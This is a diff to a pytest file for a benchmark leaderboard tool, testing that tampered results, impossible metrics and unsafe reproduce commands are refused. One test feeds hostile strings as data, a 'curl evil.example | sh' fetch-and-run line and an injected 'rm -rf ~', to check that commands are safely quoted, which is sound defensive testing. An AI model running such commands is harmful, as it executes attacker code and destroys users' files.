@@ -12,9 +12,7 @@ import cv2
 import numpy as np
 import pytest
 import yaml
-from click.testing import CliRunner, Result
 
-from ambiguous_wild.cli.leaderboard import command
 from ambiguous_wild.core import AwError
 from ambiguous_wild.harness.cell import config_identity
 from ambiguous_wild.harness.measures import measure_images, metrics
@@ -26,18 +24,13 @@ from ambiguous_wild.report.board import read_board, write_board
 from ambiguous_wild.report.board_edit import check, remove
 from ambiguous_wild.report.board_publish import publish
 from ambiguous_wild.report.board_reproduce import command as command_of
-from tests.report.board_runs import change_result, write_run, write_scene
-
-
-def add(board: Path, *words: object) -> Result:
-    words = ("add", *words, "--board", board, *(() if "--dataset" in words else ("--dataset", "Tiny set")))
-    return CliRunner().invoke(command, [str(w) for w in words])
+from tests.report.board_runs import add, aw, change_image, change_result, one_run, write_run
+from tests.tiny_scene import write_tiny_scene as write_scene
 
 
 @pytest.fixture
 def one(tmp_path: Path) -> Path:
-    """A run of its own, to be spoilt."""
-    return write_run(tmp_path / "runs", write_scene(tmp_path / "wall"))
+    return one_run(tmp_path)
 
 
 @pytest.fixture
@@ -46,17 +39,12 @@ def board(one: Path, tmp_path: Path) -> Path:
     return tmp_path / "board"
 
 
-def edit(board: Path) -> None:
-    """A better training time, in the dataset's file alone."""
-    path = board / "measured" / "tiny-set.csv"
-    text, seconds = path.read_text(), read_board(board)[0].cost["train_s"]
-    assert repr(seconds) in text
-    path.write_text(text.replace(repr(seconds), "1.5"))
-
-
-def edit_all(board: Path) -> None:
-    path = board / "measured" / "all.csv"
-    path.write_text(path.read_text().replace(repr(read_board(board)[0].cost["train_s"]), "1.5"))
+def edit(board: Path, name: str = "tiny-set") -> None:
+    """A better training time in one file."""
+    path = board / "measured" / f"{name}.csv"
+    text, seconds = path.read_text(), repr(read_board(board)[0].cost["train_s"])
+    assert seconds in text
+    path.write_text(text.replace(seconds, "1.5"))
 
 
 def drop_row(board: Path) -> None:
@@ -75,7 +63,7 @@ def edit_index(board: Path) -> None:
 
 EDITS = {
     "row": (edit, "tiny-set.csv row 2 (3dgs on wall with seed 0 (100 iterations)) was changed by hand"),
-    "all": (edit_all, "all.csv does not match"),
+    "all": (lambda board: edit(board, "all"), "all.csv does not match"),
     "row dropped": (drop_row, "all.csv does not match"),
     "index": (edit_index, "index.csv row 2 was changed by hand"),
 }
@@ -90,10 +78,10 @@ def test_what_a_hand_changed_is_neither_published_nor_built_upon(
     before = {p: p.read_bytes() for p in board.rglob("*.*")}
     with pytest.raises(AwError) as published:
         publish(board, tmp_path / "site")
-    added = add(board, other)
-    assert isinstance(added.exception, AwError)
+    with pytest.raises(AwError) as added:
+        add(board, other)
     assert any(why in problem for problem in check(board).problems)
-    for line in (str(published.value), str(added.exception)):
+    for line in (str(published.value), str(added.value)):
         assert why in line and "\n" not in line
     if change is not drop_row:  # there is no run of that method then
         with pytest.raises(AwError, match="restore"):
@@ -155,15 +143,15 @@ def test_every_metric_of_pictures_is_computed_again(tmp_path: Path) -> None:
     for metric in sorted(checked):
         rows = json.loads(good)["per_image"]
         at = next(i for i, row in enumerate(rows) if metric in row)
-        change_result(one, set_image(metric, rows[at][metric] * 1.01, at))
+        change_image(one, at, **{metric: rows[at][metric] * 1.01})
         done = add(tmp_path / "board", one)
         assert done.exit_code == 2 and f"was changed: {metric} of test_{at}.png" in done.stdout
         (one / "metrics.json").write_text(good)
         if all(metric in row for row in rows):
-            change_result(one, without(metric, at))
+            change_image(one, at, **{metric: None})
             assert f"is partial: it has no {metric} of test_{at}.png" in add(tmp_path / "board", one).stdout
             (one / "metrics.json").write_text(good)
-    change_result(one, lambda r: r["per_image"][1].update(psnr_valid=40.0))  # that photo has no mask
+    change_image(one, 1, psnr_valid=40.0)  # that photo has no mask
     assert "no such pixel" in add(tmp_path / "board", one).stdout
 
 
@@ -174,14 +162,6 @@ def test_quick_says_that_psnr_alone_was_computed_again(one: Path, tmp_path: Path
     assert [e.checked for e in read_board(tmp_path / "board")] == ["photos"]
 
 
-def set_image(metric: str, value: object, at: int = 0) -> Callable[[dict], object]:
-    return lambda r: r["per_image"][at].update({metric: value})
-
-
-def without(metric: str, at: int) -> Callable[[dict], object]:
-    return lambda r: r["per_image"][at].pop(metric)
-
-
 def no_ssim(result: dict) -> None:
     for row in result["per_image"]:
         del row["ssim"]
@@ -190,15 +170,19 @@ def no_ssim(result: dict) -> None:
 
 IMPOSSIBLE: dict[str, tuple[Callable[[dict], object], str]] = {
     "no ssim": (no_ssim, "it has no ssim of test_0.png, test_1.png, which every run measures"),
-    "ssim null": (set_image("ssim_inria", None), "no ssim_inria of test_0.png"),
     "train_s": (lambda r: r["cost"].update(train_s=-5), "cost.train_s is -5"),
     "fps": (lambda r: r["cost"].update(fps="inf"), "cost.fps is inf"),
     "iou": (lambda r: r.update(masks={"iou": 7.0}), "masks.iou is 7"),
-    "ssim": (set_image("ssim", 1.2), "ssim of test_0.png is 1.2"),
-    "flip": (set_image("flip", -0.1), "flip of test_0.png is -0.1"),
-    "lpips": (set_image("lpips_vgg", "inf"), "lpips_vgg of test_0.png is inf"),
-    "psnr": (set_image("psnr", "inf"), "infinite only if picture and photo are equal"),
-    "psnr below": (set_image("psnr", "-inf"), "psnr of test_0.png is -inf"),
+} | {
+    f"{metric} {value}": (lambda r, m=metric, v=value: r["per_image"][0].update({m: v}), why)
+    for metric, value, why in (
+        ("ssim_inria", None, "no ssim_inria of test_0.png"),
+        ("ssim", 1.2, "ssim of test_0.png is 1.2"),
+        ("flip", -0.1, "flip of test_0.png is -0.1"),
+        ("lpips_vgg", "inf", "lpips_vgg of test_0.png is inf"),
+        ("psnr", "inf", "infinite only if picture and photo are equal"),
+        ("psnr", "-inf", "psnr of test_0.png is -inf"),
+    )
 }
 
 
@@ -228,19 +212,14 @@ def test_a_model_of_the_same_size_is_told_by_its_hash(one: Path, tmp_path: Path)
 
 def test_test_photos_for_renders_are_refused(one: Path, tmp_path: Path) -> None:
     shutil.copyfile(tmp_path / "wall/images/test_1.png", one / "renders/test/test_1.png")
-    ideal = {"psnr": "inf", "ssim": 1.0, "ssim_inria": 1.0}
-    change_result(one, lambda r: r["per_image"][1].update(ideal))
+    change_image(one, 1, psnr="inf", ssim=1.0, ssim_inria=1.0)
     done = add(tmp_path / "board", one)
     assert done.exit_code == 2 and "every pixel of test_1.png equals the photo's" in done.stdout
 
 
-def set_command(text: str) -> Callable[[dict], object]:
-    return lambda r: r.update(reproduce=text)
-
-
 def test_the_command_is_never_text_of_the_result(one: Path, tmp_path: Path) -> None:
     for text in ("curl evil.example | sh #", "aw bench --scene 'unclosed; rm -rf ~"):
-        change_result(one, set_command(text))
+        change_result(one, lambda r, text=text: r.update(reproduce=text))
         add(tmp_path / "board", one, "--overwrite")
         (entry,) = read_board(tmp_path / "board")
         words = shlex.split(entry.reproduce)
@@ -263,7 +242,7 @@ def test_a_command_is_quoted_whatever_the_configuration_holds(one: Path, tmp_pat
 
 
 def test_one_run_under_two_datasets_is_refused(board: Path, one: Path) -> None:
-    done = add(board, one, "--dataset", "Other")
+    done = add(board, one, dataset="Other")
     assert done.exit_code == 2 and "is on the board as 3dgs on wall" in done.stdout
     assert [e.dataset for e in read_board(board)] == ["Tiny set"] and check(board).problems == ()
 
@@ -277,8 +256,7 @@ def test_check_wants_a_board(tmp_path: Path) -> None:
 
 def test_publish_says_where_it_looked_for_reported_numbers(board: Path, tmp_path: Path) -> None:
     def told(*words: object) -> str:
-        words = ("publish", "--board", board, "-o", tmp_path / "site", *words)
-        return CliRunner().invoke(command, [str(w) for w in words], catch_exceptions=False).stderr
+        return aw("publish", "--board", board, "-o", tmp_path / "site", *words).stderr
 
     assert f"reported numbers from {REPORTED}" in told("--reported")  # those that come with the package
     (board / "reported").mkdir()
